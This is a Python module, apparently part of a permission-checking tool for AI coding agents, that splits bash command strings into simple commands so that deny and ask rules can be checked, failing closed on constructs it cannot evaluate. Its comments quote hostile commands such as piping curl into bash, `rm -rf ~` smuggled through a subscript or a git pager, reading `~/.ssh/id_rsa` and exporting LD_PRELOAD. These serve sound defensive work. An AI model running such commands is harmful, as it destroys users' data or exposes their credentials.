"""The `shell` splitter: a POSIX/bash command string into the commands it runs.

Hand-written, standard library only. We measured the alternatives on our
adversarial corpus (`python -m benchmarks.shell_parsers`; the README's
"Splitting" section has the numbers):
bashlex parses the grammar but is pure Python and several times slower, and
rejects some inputs bash accepts; tree-sitter-bash is fast C but its tree
attaches a trailing redirect to a whole `&&` list and accepts unterminated
quotes with an error node we would have to audit node by node. What a policy
needs is narrower than a full parse: every simple command that can run, with
its redirect targets, and a refusal for anything whose effect cannot be
known statically.

Each simple command becomes a subject `{"args": {FIELD: CANONICAL}, "text":
SOURCE}`: CANONICAL is its words after quote removal, wrappers and safe
assignments stripped, joined with single spaces and re-quoted only where a
word needs it to stay one word (`quote_join`), so `'git'  status` and `git
status` read the same; SOURCE is the command as written, for the prompt.
Redirect targets become subjects of the file tools. Anything we cannot evaluate raises
`SplitError` with a specific reason, and the call is blocked (fail closed).
"""

from __future__ import annotations

from collections import namedtuple
from types import MappingProxyType

from ..paths import files_named_under
from .bindings import (
    BINDERS,
    WATCHED,
    base_name,
    check_builtin,
    check_expansions,
    check_loop_variable,
)
from .codes import CODE_RUNNERS, code_strings, may_be_path, string_literals
from .credentials import CREDENTIAL_WORDS, credential_files
from .directories import after, anchored
from .editors import EDITORS, editor_refusal
from .editors import needs_general_path as editor_needs_general_path
from .gitfiles import git_files  # small: the plain path reads `git add x` with it
from .helpers import HELPER_PROGRAMS, helper_refusal
from .helpers import needs_general_path as helper_needs_general_path
from .interpreters import FIRST_WORD_SCRIPT, SCRIPT_RUNNERS, script_files
from .loaded import (
    OPTION_FILES,
    OPTION_OUTPUTS,
    may_name_files,
    may_name_outputs,
    option_files,
    option_outputs,
)
from .options import option_views
from .programs import (
    COMMAND_VARIABLES,
    EXEC_EACH,
    EXEC_EACH_WORDS,
    FD_PLACEHOLDERS,
    FILE_READERS,
    FILE_WRITERS,
    FIND_EXEC,
    FIND_WRITE,
    FOREIGN_SHELLS,
    GIT_FILE_COMMANDS,
    GIT_FILE_OPTIONS,
    GIT_RUNS,
    GNU_PREFIXED,
    LATER,
    LEADING_OPTIONS,
    NAMES_FROM_INPUT,
    OTHER_NAMES,
    PLAIN_UNLESS,
    PROJECT_FORMATTERS,
    RECURSIVE_READERS,
    REFUSED_VARIABLES,
    RUNNER_SHELLS,
    RUNNERS,
    SCRIPTED_NAMES,
    SHELLS,
    TAKER_NAMES,
    TRANSFER_PLAIN_UNLESS,
    fd_names,
    fd_search_paths,
    find_delete_names,
    find_names,
    find_start_points,
    foreign_shell_refusal,
    git_command_at,
    git_runs_something,
    is_name,
    is_safe_assignment,
    listed_by_null,
    names_from_input,
    program_name,
    project_formatted,
    read_operands,
    recursive,
    runner_commands,
    shell_reads_input,
    shell_script,
    shell_script_file,
    subcommand_starts,
    with_files_under,
    written_operands,
)
from .words import (
    ANYWHERE,
    FEEDERS,
    SplitError,
    Word,
    and_files_under,
    and_under_if_folders,
    getopt,
    is_input,
    new_word,
    part_of,
)
from .wrappers import STRIPPABLE, WRAPPERS, strip_wrappers

MAX_LENGTH = 10_000  # characters; a longer command is refused
MAX_DEPTH = 4  # nested `bash -c` strings

SEPARATORS = frozenset({";", "&", "&&", "||", "|", "|&", "\n"})
WRITE_REDIRECTS = frozenset({">", ">>", ">|", "&>", "&>>", "<>"})
QUIET_TARGETS = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"})
RESERVED_SKIP = frozenset({"if", "then", "else", "elif", "do", "while", "until", "!"})
RESERVED_END = frozenset({"fi", "done"})
RESERVED_REFUSED = {
    "case": "a case statement",
    "function": "a function definition",
    "coproc": "a coprocess",
    "select": "a select loop",
}


# The general path's regular expressions, compiled on its first use (see
# `_compile_patterns`).
_ASSIGNMENT = _BRACES = _BRACE_LISTS = _BRACE_GROUP = None
_PLAIN = _DOUBLE_PLAIN = _OPERATOR = _QUICK_TOKEN = None
_WORD_END = frozenset(" \t\n;&|()<>")


_Redirect = namedtuple("Redirect", "op target start end")


class Redirect(_Redirect):
    """A redirect; `target` is None for descriptor duplication and here-documents."""

    __slots__ = ()


class Command:
    """One simple command as it is being read."""

    __slots__ = (
        "words",
        "redirects",
        "heredoc",
        "body",
        "body_expands",
        "bound",
        "values",
        "finds",
        "fed",
        "env",
    )

    def __init__(self) -> None:
        self.words: list[Word] = []
        self.redirects: list[Redirect] = []
        self.heredoc = False  # stdin comes from a here-document or here-string
        self.body: str | None = None  # the last here-document's text (`python3 <<'EOF'`)
        self.body_expands = False  # and the shell expands it (`<<EOF`: `$X` in it)
        self.bound: dict | None = None  # the line's known variables (`variables.bindings`)
        self.values: dict | None = None  # what the line may set them to (`possible_values`)
        self.finds = False  # run by find or fd: its `{}` (or appended `…`) is what they find
        self.fed: Command | None = None  # the command before `|`, when one simple command
        self.env: list[str] = []  # what the line exports (`export LD_PRELOAD=x; …`: `_exported`)


# -- lexing -------------------------------------------------------------------


def _read_word(s: str, i: int, substituted: list | None = None) -> tuple[Word, int]:
    start, n = i, len(s)
    plain = _PLAIN.match(s, i)
    if plain is not None and (plain.end() == n or s[plain.end()] in _WORD_END):
        end = plain.end()  # one plain run
        return new_word(Word, (plain.group(), start, end, False, False)), end
    out: list[str] = []
    expands = quoted = False
    while i < n:
        plain = _PLAIN.match(s, i)
        if plain is not None:
            out.append(plain.group())
            i = plain.end()
            continue
        c = s[i]
        if c in _WORD_END:
            break
        if c == "\\":
            if i + 1 < n and s[i + 1] == "\n":
                i += 2  # line continuation
                continue
            out.append(s[i + 1] if i + 1 < n else "\\")
            i += 2
            quoted = True
        elif c == "'":
            j = s.find("'", i + 1)
            if j < 0:
                raise SplitError("unterminated single quote")
            out.append(s[i + 1 : j])
            i = j + 1
            quoted = True
        elif c == '"':
            i, expanded = _read_double(s, i + 1, out, substituted)
            expands = expands or expanded
            quoted = True
        elif c == "`":
            raise SplitError("command substitution (backticks) cannot be evaluated statically")
        elif c == "$":
            nxt = s[i + 1 : i + 2]
            if nxt == "(":
                end = _command_substitution(s, i, substituted)
                out.append(s[i:end])  # a value not known here, as a variable's is
                expands = True
                i = end
                continue
            if nxt == "'":
                text, i = _ansi_c(s, i + 2)
                out.append(text)
                quoted = True
                continue
            if nxt == '"':
                i += 1  # $"..." is a translated string: read it as "..."
                continue
            expands = expands or bool(nxt) and (nxt.isalnum() or nxt in "_{@*#?$!-")
            out.append("$")
            i += 1
        else:
            out.append(c)
            i += 1
    return Word("".join(out), start, i, expands, quoted), i


# `$'…'`'s escapes that stand for one character (bash 5.2's).
_ANSI_C_ESCAPES = {
    "a": 7, "b": 8, "e": 27, "E": 27, "f": 12, "n": 10, "r": 13, "t": 9, "v": 11,
    "\\": 92, "'": 39, '"': 34, "?": 63,
}  # fmt: skip
_OCTAL = frozenset("01234567")
_HEX = frozenset("0123456789abcdefABCDEF")


def _ansi_c(s: str, i: int) -> tuple[str, int]:
    r"""`$'…'` from just past its `'`: its text as bash 5.2 decodes it, and
    where the word goes on (checked against it). `git commit -m
    $'Fix\n\nBody'` and `IFS=$'\n'` were refused. It ends at the first `'`
    no backslash escapes, as bash's lexer finds it; then `\xHH` and `\NNN`
    are bytes, read as UTF-8 with the rest (refused when they are not), and
    what follows a NUL is dropped, as bash drops it. `\u`/`\U` past ASCII
    (bash writes them in the locale's encoding, or as `\u…` in C's) and
    `\cX` (a control character) are refused."""
    end, n = i, len(s)
    while end < n and s[end] != "'":
        end += 2 if s[end] == "\\" else 1
    if end >= n:
        raise SplitError("unterminated ANSI-C quote")
    body, i, n = s[i:end], 0, end - i
    out = bytearray()
    refused = ""  # (what makes it refused, where: unless a NUL before drops it)
    refused_at = -1
    while i < n:
        c = body[i]
        if c != "\\":
            j = body.find("\\", i)
            j = n if j < 0 else j
            out += body[i:j].encode("utf-8", "surrogatepass")
            i = j
            continue
        e = body[i + 1]  # (a backslash is never last: the quote's end is escaped past it)
        i += 2
        if e in _ANSI_C_ESCAPES:
            out.append(_ANSI_C_ESCAPES[e])
        elif e in _OCTAL:
            j = i
            while j < n and j < i + 2 and body[j] in _OCTAL:
                j += 1
            out.append(int(body[i - 1 : j], 8) & 0xFF)
            i = j
        elif e == "x" and body[i : i + 1] == "{":  # `\x{HHH}`: its low byte (`}` optional)
            j = i + 1
            while j < n and body[j] in _HEX:
                j += 1
            out.append(int(body[i + 1 : j] or "0", 16) & 0xFF)
            i = j + (body[j : j + 1] == "}")
        elif e in ("x", "u", "U"):
            width = {"x": 2, "u": 4, "U": 8}[e]
            j = i
            while j < n and j < i + width and body[j] in _HEX:
                j += 1
            value = int(body[i:j], 16) if j > i else -1
            if value < 0:
                out += ("\\" + e).encode()  # (no digit: as written)
            elif e == "x" or value <= 0x7F:
                out.append(value)
            elif not refused:
                refused, refused_at = f"$'\\{e}{body[i:j]}' (in the locale's encoding)", len(out)
            i = j
        elif e == "c" and i < n:
            if not refused:
                refused, refused_at = "$'\\c…' (a control character)", len(out)
            i += 1 + (body[i] == "\\" and i + 1 < n)  # (its character; `\c\\` is one)
        else:
            out += ("\\" + e).encode("utf-8", "surrogatepass")  # (not an escape: as written)
    nul = out.find(0)
    if refused and (nul < 0 or refused_at <= nul):
        raise SplitError(f"{refused} cannot be evaluated statically")
    try:
        text = bytes(out if nul < 0 else out[:nul]).decode()
    except UnicodeDecodeError:
        raise SplitError(
            "$'…' making bytes that are not UTF-8 cannot be evaluated statically"
        ) from None
    return text, end + 1


def _read_double(
    s: str, i: int, out: list[str], substituted: list | None = None
) -> tuple[int, bool]:
    expands = False
    n = len(s)
    while i < n:
        run = _DOUBLE_PLAIN.match(s, i)  # characters that stand for themselves here
        if run.end() > i:
            out.append(run.group())
            i = run.end()
            if i == n:
                break
        c = s[i]
        if c == '"':
            return i + 1, expands
        if c == "\\" and i + 1 < n and s[i + 1] in '$`"\\\n':
            if s[i + 1] != "\n":
                out.append(s[i + 1])
            i += 2
            continue
        if c == "`":
            raise SplitError("command substitution (backticks) cannot be evaluated statically")
        if c == "$":
            nxt = s[i + 1 : i + 2]
            if nxt == "(":
                try:
                    text, i = _here_text(s, i)
                except SplitError:
                    end = _command_substitution(s, i, substituted)
                    out.append(s[i:end])  # a value not known here, as a variable's is
                    expands = True
                    i = end
                    continue
                out.append(text)
                continue
            if nxt and (nxt.isalnum() or nxt in "_{@*#?$!-"):
                expands = True
        out.append(c)
        i += 1
    raise SplitError("unterminated double quote")


def _command_substitution(s: str, i: int, substituted: list | None) -> int:
    """`$(CMD)` at `s[i]`: where it ends. CMD goes to `substituted` (a part
    of the line: it runs); its output is a value not known here, which the
    word holds as a variable's (`kill $(lsof -ti:3000)` is held to every
    deny and ask rule that `kill ` and anything may meet). Arithmetic
    (`$((…))`), a comment in it, or nowhere to put CMD: refused."""
    if substituted is None or s.startswith("$((", i):
        raise SplitError("command substitution $(...) cannot be evaluated statically")
    end, tokens = _substitution_end(s, i + 2, substituted.depth)
    command = s[i + 2 : end]
    heredoc = any(type(t) is tuple and t[0] == "<<" for t in tokens)
    if not command.strip() or "#" in command or heredoc:
        # (a here-document: bash 3.2 ends `$(` at a `)` in one, and runs what
        # follows; `"$(cat <<'EOF' … EOF)"` is read as its text, `_here_text`)
        raise SplitError(
            "a command substitution with no command, a comment or a here-document "
            "cannot be evaluated statically"
        )
    substituted.append((command, None, i))
    return end + 1


def _substitution_end(s: str, start: int, depth: int) -> tuple[int, list]:
    """The `)` that ends the command starting at `s[start]` (`$(echo ")")`,
    `<(ls (x))`), as the shell reads it; and that command's tokens."""
    if depth >= MAX_DEPTH:
        raise SplitError(f"substitutions nested deeper than {MAX_DEPTH} levels")
    tokens, end = _lex(s, start, True, _Substitutions(depth + 1), close=True)
    return end, tokens


def _here_text(s: str, i: int) -> tuple[str, int]:
    """`"$(cat <<'EOF' … EOF)"` at `s[i]`: the document's text, which is what
    the substitution gives (less its trailing newlines), and where it ends.
    Claude Code writes every commit message and pull request body so. Any
    other command substitution, and a document the shell expands (`<<EOF`
    holding `$`, a backquote or a backslash), cannot be evaluated statically."""
    j = i + 2
    n = len(s)
    while j < n and s[j] in " \t":
        j += 1
    if s.startswith("cat", j) and s[j + 3 : j + 4] in (" ", "\t", "<"):
        j += 3
        while j < n and s[j] in " \t":
            j += 1
        strip_tabs = s.startswith("<<-", j)
        if s.startswith("<<", j) and not s.startswith("<<<", j):
            j += 3 if strip_tabs else 2
            while j < n and s[j] in " \t":
                j += 1
            delimiter, j = _read_word(s, j)
            while j < n and s[j] in " \t":
                j += 1
            if delimiter.value and not delimiter.expands and s[j : j + 1] == "\n":
                try:
                    after, end = _skip_heredoc(
                        s, j + 1, delimiter.value, strip_tabs, delimiter.quoted
                    )
                except SplitError:
                    after = -1
                body = s[j + 1 : end] if after >= 0 else ""
                if strip_tabs:
                    body = "\n".join(line.lstrip("\t") for line in body.split("\n"))
                plain = delimiter.quoted or not any(c in body for c in "$`\\")
                # A shell that ends the substitution at the first `)` (bash
                # 3.2, macOS's /bin/bash) would read what follows it as the
                # rest of the double-quoted word: a `"`, backquote or `$`
                # there could run a command this reading does not see.
                close = body.find(")")
                plain = plain and (close < 0 or not any(c in body[close:] for c in '"`$'))
                k = after
                while 0 <= k < n and s[k] in " \t\n":
                    k += 1
                if after >= 0 and plain and s[k : k + 1] == ")":
                    return body.rstrip("\n"), k + 1
    raise SplitError("command substitution $(...) cannot be evaluated statically")


def _compile_patterns() -> None:
    """Compile the general path's patterns. Importing `re` costs a hook process
    about 6 ms (`python -m benchmarks.hook_startup`), and the plain path, which
    most commands take, does without it."""
    global _ASSIGNMENT, _BRACES, _BRACE_LISTS, _BRACE_GROUP
    global _PLAIN, _DOUBLE_PLAIN, _OPERATOR, _QUICK_TOKEN
    import re

    _ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*\+?=")
    # What bash may brace-expand: `{` (not `${`), then a comma or a `..`,
    # then `}`, braces between them or not (bash reads `a{},}` as `a} a`).
    _BRACES = re.compile(r"(?<!\$)\{.*?(?:,|\.\.).*?\}", re.DOTALL)
    # The braces policyc expands: lists of plain alternatives, not nested.
    _BRACE_LISTS = re.compile(r"(?:[^{}]*\{[^{},]*(?:,[^{},]*)+\})+[^{}]*")
    _BRACE_GROUP = re.compile(r"\{([^{}]*)\}")
    # characters that stand for themselves in a word
    _PLAIN = re.compile(r"[^ \t\n;&|()<>'\"\\$`]+")
    # characters that stand for themselves between double quotes
    _DOUBLE_PLAIN = re.compile(r'[^"\\$`]*')
    _OPERATOR = re.compile(r"&>>|<<<|<<-|&&|\|\||\|&|;;|&>|>>|>\||>&|<<|<>|<&|<\(|>\(|[;&|()<>]")
    # The common tokens, each in one step with the blanks before it: group 1,
    # an unquoted word of plain characters that ends where a word ends (not
    # a comment, `#...`, nor a descriptor's number before a redirect, `2>`);
    # group 2, a list or pipeline operator (not `;;` nor the redirects `&>`,
    # `&>>`). The loop in `lex` reads every other token.
    _QUICK_TOKEN = re.compile(
        r"[ \t]*(?:((?![0-9]+[<>])[^ \t\n;&|()<>'\"\\$`#][^ \t\n;&|()<>'\"\\$`]*)(?=[ \t\n;&|()<>]|\Z)"
        r"|(&&|\|\||\|&|\||;(?!;)|&(?![>&])))"
    )


def lex(s: str, quick: bool = True, substituted: list | None = None) -> list:
    """Words, operators (str) and here-document markers, in order.

    The common tokens (plain words, list and pipeline operators) are read
    by one regex match each (`_QUICK_TOKEN`): 9-37% less time than the
    loop on six commands an agent makes (2026-12-03). `quick=False` reads
    every token in the loop, as the tests do to check that regex against it.
    `substituted` (`_Substitutions`): where the commands of command and
    process substitutions go (`_command_substitution`,
    `_process_substitution`); None refuses them.
    """
    return _lex(s, 0, quick, substituted)[0]


class _Substitutions(list):
    """The commands a line's substitutions run (command, its file or None,
    where it stands), and how deep in substitutions the line is."""

    __slots__ = ("depth",)

    def __init__(self, depth: int = 0) -> None:
        super().__init__()
        self.depth = depth


def _lex(
    s: str, i: int, quick: bool, substituted: list | None, close: bool = False
) -> tuple[list, int]:
    """`lex` from `s[i]`; with `close`, up to the `)` that closes a
    substitution begun before `i`: the tokens and where that `)` is. One
    pass, so substitutions inside one are read once each (trying each `)`
    as the end took time exponential in how deep they nest)."""
    if _PLAIN is None:
        _compile_patterns()
    tokens: list = []
    append = tokens.append
    # here-documents waiting for their body, and where their `<<` token is
    pending: list[tuple[str, bool, bool, int]] = []
    n = len(s)
    parens = 0
    quick_token = _QUICK_TOKEN.match if quick else None
    while i < n:
        if quick_token is not None:
            found = quick_token(s, i)
            if found is not None:
                i = found.end()
                word = found.group(1)
                if word is not None:
                    append(new_word(Word, (word, found.start(1), i, False, False)))
                else:
                    append((found.group(2), found.start(2), i))
                continue
        c = s[i]
        if c in " \t":
            i += 1
            continue
        if c == "\\" and s[i + 1 : i + 2] == "\n":
            i += 2
            continue
        if c == "#":
            end = s.find("\n", i)
            i = n if end < 0 else end
            continue
        if c == "\n":
            tokens.append(("\n", i, i + 1))
            i += 1
            for delimiter, strip_tabs, literal, at in pending:
                start = i
                i, end = _skip_heredoc(s, i, delimiter, strip_tabs, literal)
                # `<<` with its body, and whether the shell expands it (`<<EOF`, not `<<'EOF'`)
                tokens[at] = (*tokens[at], s[start:end], not literal)
            pending = []
            continue
        if "0" <= c <= "9":  # ASCII only, as bash: `²>x` runs `²`
            j = i + 1
            while j < n and "0" <= s[j] <= "9":
                j += 1
            if j < n and s[j] in "<>":
                i = j  # a file descriptor number before a redirect: `2>`, `2>&1`
                op = _operator(s, i)
                tokens.append((op, i, i + len(op)))
                i += len(op)
                continue
        op = _operator(s, i)
        if op:
            if op in ("<(", ">("):
                if substituted is None:
                    raise SplitError("process substitution cannot be evaluated statically")
                word = _process_substitution(s, i, tokens, substituted)
                tokens.append(word)
                i = word.end
                continue
            if op == ";;":
                raise SplitError("a case statement cannot be evaluated statically")
            if op in ("<<", "<<-"):
                j = i + len(op)
                while j < n and s[j] in " \t":
                    j += 1
                word, after = _read_word(s, j)
                if not word.value:
                    raise SplitError("a here-document without a delimiter")
                pending.append((word.value, op == "<<-", word.quoted, len(tokens)))
                tokens.append(("<<", i, after))
                i = after
                continue
            if close and op == ")" and parens == 0:
                if pending:
                    raise SplitError("unterminated here-document")
                return tokens, i
            parens += (op == "(") - (op == ")")
            tokens.append((op, i, i + len(op)))
            i += len(op)
            continue
        word, i = _read_word(s, i, substituted)
        tokens.append(word)
    if close:
        raise SplitError("an unterminated substitution")
    if pending:
        raise SplitError("unterminated here-document")
    return tokens, i


# What a process substitution's file may be given to: programs that read it
# as data (`diff <(sort a) <(sort b)`, `tee >(gzip > x.gz)`). Any other may
# read it as code (`bash <(curl …)`, `sed -f <(…)`, `make -f <(…)`), as
# `curl … | bash` does: refused.
_DATA_READERS = frozenset(
    "diff diff3 sdiff colordiff cmp comm paste join cat sort uniq wc grep egrep fgrep "
    "rg head tail tee cut tr nl md5sum sha1sum sha256sum sha512sum".split()
)


# What a command substitution's output may be given to: programs whose
# words run nothing, whatever they are (`kill -9 $(lsof -ti:3000)`, `echo
# "$(date)"`, `cd "$(git rev-parse --show-toplevel)"`, `[ -n "$(git status
# --porcelain)" ]`). The output is the agent's to choose, unlike a variable
# from its environment: given to git, `$(echo -c) core.pager='rm -rf ~'`
# would run a command no rule sees; to a variable (`X=$(…)`), the same
# later. Those are refused.
_OUTPUT_TAKERS = frozenset({"echo", "cd", "pushd", "kill", "[", "test", "sleep"})


def _takes_output(cmd: Command) -> bool:
    """Whether `cmd` is one of `_OUTPUT_TAKERS` that runs nothing of its words:
    not `[ -v NAME ]` nor `test -v NAME`, which evaluate NAME's subscript
    (`a[$(rm -rf ~)]` runs rm: checked against bash 5.2)."""
    words = cmd.words
    if not words or words[0].value not in _OUTPUT_TAKERS or words[0].quoted:
        return False
    return words[0].value not in ("[", "test") or all(w.value != "-v" for w in words)


def _process_substitution(s: str, i: int, tokens: list, substituted: list) -> Word:
    """`<(CMD)` or `>(CMD)` at `s[i]`: CMD goes to `substituted` (a part of
    the line: it runs), and the word is the file bash hands the command in
    its place (`/dev/fd/63`, then 62, …). Joined to another word (`x<(…)`,
    bash's `x/dev/fd/63`), after a redirect (`done < <(…)`), empty, or
    holding a comment (where a `)` may not end it), it is refused."""
    last = tokens[-1] if tokens else None
    if last is None or type(last) is tuple:  # (a Word is a tuple's subclass)
        raise SplitError(
            "a process substitution where a command or a redirect's file stands "
            "cannot be evaluated statically"
        )
    if last.end == i:
        raise SplitError("a process substitution joined to a word cannot be evaluated statically")
    start = i + 2
    end = _substitution_end(s, start, substituted.depth)[0]
    command = s[start:end]
    if not command.strip() or "#" in command:
        raise SplitError(
            "a process substitution with no command or a comment cannot be evaluated statically"
        )
    if end + 1 < len(s) and s[end + 1] not in " \t\n;&|)":
        raise SplitError("a process substitution joined to a word cannot be evaluated statically")
    files = sum(1 for _, file, _ in substituted if file is not None)
    word = Word(f"/dev/fd/{63 - files}", i, end + 1, False, False)
    substituted.append((command, word, i))
    return word


def _operator(s: str, i: int) -> str:
    if s[i] not in ";&|()<>":
        return ""
    found = _OPERATOR.match(s, i)
    return found.group() if found else ""


def _skip_heredoc(
    s: str, i: int, delimiter: str, strip_tabs: bool, literal: bool
) -> tuple[int, int]:
    """Skip a here-document's body: where the text after it starts, and where
    the body ends (before its delimiter's line). Its unquoted body may not
    hold command substitution."""
    while i <= len(s):
        end = s.find("\n", i)
        line = s[i:] if end < 0 else s[i:end]
        if (line.lstrip("\t") if strip_tabs else line) == delimiter:
            return (len(s) if end < 0 else end + 1), i
        if not literal and ("$(" in line or "`" in line):
            raise SplitError(
                "command substitution in a here-document cannot be evaluated statically"
            )
        if end < 0:
            break
        i = end + 1
    raise SplitError("unterminated here-document")


# -- parsing ------------------------------------------------------------------


def commands(tokens: list, s: str, loops: list | None = None) -> list[Command]:
    """Flatten lists, pipelines, subshells and groups into simple commands
    (and record each `for` loop's variable and words in `loops`)."""
    out: list[Command] = []
    current = Command()
    depth = 0
    i = 0
    after_separator = True  # bash refuses an empty command before `;`, `&&`, `|` ...
    bodies: list = []  # the loops open: an index in `loops` for a `for`, else None
    n = len(tokens)
    while i < n:
        tok = tokens[i]
        if type(tok) is Word:
            words = current.words
            if not words:
                word = tok.value
                if not current.redirects and not tok.quoted and word in _FIRST_WORD_SPECIAL:
                    if word == "{" or word in RESERVED_SKIP:
                        if loops is not None and word in ("while", "until"):
                            bodies.append(None)
                        i += 1
                        continue
                    if word == "}" or word in RESERVED_END:
                        if loops is not None and word == "done" and bodies:
                            loop = bodies.pop()  # where a `for` loop's variable stops being known
                            if loop is not None:
                                loops[loop] = (*loops[loop][:2], tok.start, loops[loop][3])
                        after_separator = False  # `{ ls; };` and `fi;` are fine
                        i += 1
                        continue
                    if word in RESERVED_REFUSED:
                        raise SplitError(f"{RESERVED_REFUSED[word]} cannot be evaluated statically")
                    recorded = len(loops) if loops is not None else 0
                    i = _skip_for_header(tokens, i, loops)  # `for`
                    if loops is not None:
                        bodies.append(recorded if len(loops) > recorded else None)
                    continue
            elif len(words) == 1 and not tok.quoted and tok.value.startswith("()"):
                raise SplitError("a function definition cannot be evaluated statically")
            words.append(tok)
            after_separator = False
            i += 1
            continue
        op, start, end = tok[:3]
        if op in SEPARATORS:
            if op != "\n" and after_separator and not current.words and not current.redirects:
                raise SplitError(f"syntax error: nothing before `{op}`")
            _finish(current, out)
            feeds = current if op == "|" and current.words else None  # (not `(a; b) |`)
            current = Command()
            current.fed = feeds
            after_separator = op != "\n" or after_separator
        elif op == "(":
            if current.words:
                if len(current.words) == 1:
                    raise SplitError("a function definition cannot be evaluated statically")
                raise SplitError("unexpected `(`")
            depth += 1
        elif op == ")":
            if depth == 0:
                raise SplitError("unbalanced `)`")
            depth -= 1
            _finish(current, out)
            current = Command()
            after_separator = False
        elif op == "<<":
            current.heredoc = True
            current.body = tok[3] if len(tok) > 3 else None
            current.body_expands = len(tok) > 3 and tok[4]
            current.redirects.append(Redirect(op, None, start, end))
            after_separator = False
        else:  # a redirect: its target is the next word, unless it duplicates a descriptor
            target = tokens[i + 1] if i + 1 < len(tokens) else None
            if not isinstance(target, Word):
                raise SplitError(f"redirect `{op}` without a target")
            if op in (">&", "<&") and (_is_number(target.value) or target.value == "-"):
                current.redirects.append(Redirect(op, None, start, target.end))
            else:
                if op == "<<<":
                    current.heredoc = True
                current.redirects.append(
                    Redirect(op, None if op == "<<<" else target, start, target.end)
                )
            i += 2
            continue
        i += 1
    if depth:
        raise SplitError("unbalanced `(`")
    _finish(current, out)
    return out


def _is_number(word: str) -> bool:
    """ASCII digits only, as bash reads a descriptor: `>&²` writes a file named `²`."""
    return word.isascii() and word.isdigit()


_FILE_PROGRAMS = FILE_READERS | FILE_WRITERS


# git's commands read with no path (`gitfiles`): `.`'s files, or those
# their options name (`git archive -o x`).
_GIT_READ_ALWAYS = frozenset({"grep", "clean", "apply", "am", "format-patch", "archive"})


def _names_git_file(text: str) -> bool:
    """Whether a GIT_FILE_OPTIONS command may name a file by its option
    (`-F FILE`, `-aF.env`, `--file`, config's `-f`): a string test, as the
    commonest (`git commit -m wip`) names none (git_files: ~4 µs)."""
    return "F" in text or "-f" in text


# `transfers`: the files they send and save (a test holds the two alike).
_TRANSFERS = frozenset(TRANSFER_PLAIN_UNLESS)
# `transfers.FETCHERS` and `GIT_REMOTES`: what they fetch goes to the fetch
# tool, if any (a test holds them alike).
_FETCHERS = frozenset({"curl", "wget", "http", "https", "xh", "xhs"})
_GIT_REMOTES = frozenset(
    {"clone", "fetch", "pull", "push", "ls-remote", "archive", "submodule", "remote"}
)
# `registries.REGISTRY_CLIENTS` (a test holds them alike): package managers
# whose words may name an index or registry they fetch from.
_REGISTRY_CLIENTS = frozenset(
    """pip pip3 uv uvx pipx npm pnpm yarn bun npx bunx pnpx cargo gem go docker podman
    nerdctl helm python python3""".split()
)
_MOVES = frozenset({"cd", "pushd", "popd"})

# What is not known here, among a command's words as values (a NUL, which
# no word holds, starts each): a whole word (a variable, xargs' input), the
# files find and fd hand a command (`{}`: read with find and fd), and where
# a word's first variable starts (the transfers': `_up_to_variable`).
_UNKNOWN = "\0"
_FOUND = "\0{}"
_VARIABLE = "\0var"

# What an unquoted first word can be that is not a command name.
_FIRST_WORD_SPECIAL = RESERVED_SKIP | RESERVED_END | frozenset(RESERVED_REFUSED) | {"{", "}", "for"}


def _skip_for_header(tokens: list, i: int, loops: list | None) -> int:
    """`for NAME in WORDS; do` (or `for ((...))`): the header runs nothing; skip to `do`."""
    i += 1
    name = i
    if i < len(tokens) and type(tokens[i]) is Word:
        check_loop_variable(tokens[i].value)
    while i < len(tokens):
        tok = tokens[i]
        if isinstance(tok, Word) and tok.value == "do" and not tok.quoted:
            if loops is not None:
                from .variables import loop_header  # the general path only

                loop_header(tokens, name, i, loops)
            return i + 1
        i += 1
    raise SplitError("a for loop without `do`")


def _finish(command: Command, out: list[Command]) -> None:
    if command.words or command.redirects:
        out.append(command)


# -- subjects -----------------------------------------------------------------


# `shapes`: by program (git's `git CMD`, `*` any), the shapes of the deny
# and ask command rules naming words past it (`options.option_shapes`): a
# part of one holding options is shown as each such rule writes it too
# (`_option_subjects`). `fetch_tool`: where the URLs curl, wget and HTTPie
# fetch go ("" = nowhere), in its `fetch_field`; `fetch_hosts`, a function
# giving a host for each of its deny and ask rules, which a URL whose host
# is not known here (`curl "$URL"`) may be (`splitters.fetch_hosts`).
_ShellConfig = namedtuple(
    "ShellConfig",
    "field write_tool write_field read_tool read_field shapes fetch_tool fetch_field fetch_hosts",
    defaults=("command", "edit", "path", "read", "path", MappingProxyType({}), "", "url", tuple),
)


class ShellConfig(_ShellConfig):
    """Where a shell call's parts go: the command field, and the file tools."""

    __slots__ = ()


DEFAULT_CONFIG = ShellConfig()


# A command with none of these (and only ASCII) is plain words and list/pipeline operators.
_NOT_PLAIN = frozenset("'\"\\$`#<>(){}!*?[]~=\r\v\f")
# The list and pipeline operators, longest first; NUL, which no command holds, stands in for each.
_PLAIN_SEPARATORS = ("||", "&&", "|&", ";", "&", "|", "\n")
# What a subject leaves unquoted: what `shlex.quote` does (its `[^\w@%+=:,./-]`
# test, ASCII), and the characters that only the shell reads (a tilde, a
# glob, a variable's `$`: `~`, `*`, `?`, `[`, `]`, `{`, `}`, `$`, `!`, `^`,
# `#`), which a word holds after quote removal as it was written. Quoted,
# `cat ~/.ssh/id_rsa` was `cat '~/.ssh/id_rsa'`, and `Bash(cat ~/.ssh/id_rsa)`,
# `Bash(rm -rf ~)` and `Bash(ls *.py)` were denies that never matched.
_SAFE = frozenset(
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_@%+=:,./-~*?[]{}$!^#"
)
_SAFE_TEXT = _SAFE | frozenset(" \t")
_SAFE_SPACE = _SAFE | frozenset(" ")
# The characters the operators are made of.
_SEPARATOR_CHARS = frozenset("|&;\n")


def quote_join(words: list[str]) -> str:
    """The words joined by single spaces, each quoted as `shlex.quote` does
    where it holds a character outside `_SAFE` (a blank, a quote, an
    operator's), so that each stays one word: a subject's text, for rules.
    Not for the shell to read again (`~`, `*` and `$` are left bare): use
    `shlex.join` for that. Imports shlex (and `re`) only for such a word."""
    if "" not in words:
        # Most commands: no word needs quotes, so the words joined hold only
        # safe characters and the spaces between them (three C passes, where
        # the loop below costs a test per word).
        joined = " ".join(words)
        if joined.count(" ") == len(words) - 1 and _SAFE_SPACE.issuperset(joined):
            return joined
    from shlex import quote

    return " ".join([word if word and _SAFE.issuperset(word) else quote(word) for word in words])


def _split_plain(command: str, config: ShellConfig) -> list[dict] | None:
    """The fast path for the commonest input: no quotes, expansions, redirects or groups.

    Returns None whenever the general path is needed (a wrapper, a shell, an
    assignment, a path to a program, a program named in capitals, a reserved
    word, an empty command).
